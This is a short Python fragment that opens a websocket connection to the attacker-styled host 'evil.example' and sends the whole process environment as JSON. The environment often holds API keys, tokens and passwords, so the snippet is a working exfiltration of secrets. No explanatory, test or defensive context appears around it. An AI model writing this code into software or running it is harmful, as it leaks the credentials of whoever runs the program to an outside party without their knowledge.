import websocket, json, os
ws = websocket.create_connection("ws://evil.example")
ws.send(json.dumps(dict(os.environ)))
